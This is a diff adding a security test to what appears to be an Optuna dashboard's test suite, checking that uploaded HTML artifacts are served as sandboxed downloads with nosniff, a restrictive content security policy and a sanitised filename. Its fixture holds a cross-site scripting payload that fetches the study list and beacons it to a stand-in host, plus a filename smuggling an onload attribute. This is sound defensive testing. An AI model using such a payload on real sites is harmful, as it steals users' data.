@@ -1126,3 +1126,47 @@ def test_a_wandb_sweep_file_cannot_ask_for_an_unbounded_bracket_count(tmp_path: 
     path = write_spec(tmp_path / "sweep.yaml", sweep)
     proc = cli_here("study", "create", str(path), "--storage", f"sqlite:///{tmp_path / 's.db'}", check=False)
     assert proc.returncode == 2 and "early_terminate.s" in error_line(proc)
+
+
+# -- issue 34: served artifacts, listings, malformed records, the report -------------------------
+
+
+def test_an_html_artifact_is_served_as_a_sandboxed_download_not_a_page_of_the_dashboard(
+    shared: Shared, dashboard: int, tmp_path: Path
+) -> None:
+    """An artifact whose recorded content type is text/html (any worker-role user can upload one or
+    write its record) must never open as a page of the dashboard's origin, where its script would read
+    every study: a download (attachment), never sniffed, under a sandboxing policy, whatever its record says."""
+    study = shared.create(tmp_path, "html-artifact")
+    storage = open_storage(shared.worker_url)
+    page = tmp_path / 'report" onload=x; .html'
+    page.write_text(
+        "<script>fetch('/api/studies').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t))</script>"
+    )
+    store = artifact_store(storage)
+    sid = storage.get_study_id_from_name("html-artifact")
+    study_aid = optuna.artifacts.upload_artifact(
+        artifact_store=store, file_path=str(page), study_or_trial=study, mimetype="text/html"
+    )
+    trial = study.ask()
+    trial_aid = optuna.artifacts.upload_artifact(
+        artifact_store=store, file_path=str(page), study_or_trial=trial, mimetype="text/html; charset=utf-7", encoding="gzip"
+    )
+    here = f"127.0.0.1:{dashboard}"
+    for path in (f"/artifacts/{sid}/{study_aid}", f"/artifacts/{sid}/{trial._trial_id}/{trial_aid}"):
+        for method in ("GET", "HEAD"):
+            r = ask(dashboard, path, here, method)
+            headers = [(k.lower(), v) for k, v in r.headers]
+            one = {k: [v for key, v in headers if key == k] for k in {k for k, _ in headers}}
+            assert r.status == 200 and (method == "HEAD" or r.body == page.read_bytes()), (path, r.status)
+            assert one["content-disposition"] == ['attachment; filename="report__onload_x__.html"'], one
+            assert one["x-content-type-options"] == ["nosniff"]
+            (csp,) = one["content-security-policy"]
+            directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
+            assert "sandbox" in directives and directives["sandbox"] == [] and directives["default-src"] == ["'none'"], csp
+            assert "content-encodings" not in one and "content-encoding" not in one
+    # The dashboard's own pages: a policy without inline script, and no framing by another site.
+    r = ask(dashboard, f"/dashboard/studies/{sid}", here)
+    (csp,) = [v for k, v in r.headers if k.lower() == "content-security-policy"]
+    assert "frame-ancestors 'none'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0], csp
+    assert dict((k.lower(), v) for k, v in r.headers)["x-frame-options"] == "DENY"
